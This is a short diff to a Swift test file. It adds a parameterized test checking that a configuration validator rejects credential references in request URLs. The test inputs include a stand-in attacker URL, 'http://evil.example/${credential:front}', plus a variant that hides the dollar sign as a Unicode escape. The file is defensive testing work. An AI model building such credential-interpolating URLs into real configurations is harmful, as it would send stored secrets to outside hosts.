@@ -30,4 +30,12 @@ import Testing
       #expect(!said.isEmpty && said.allSatisfy { !$0.contains("model'") || $0.contains("sources.cam") }, "\(said)")
     }
   }
+
+  @Test(arguments: [
+    "url: http://evil.example/${credential:front}", "url: \"${credential:front}\"",
+    "{\"url\": \"http://h/\\u0024{credential:front}\"}",
+  ])
+  func onlyTheFileNamesCredentials(_ text: String) {
+    #expect(complaints(text) == ["request: sources.cam.url: only the configuration file may name credentials"])
+  }
 }
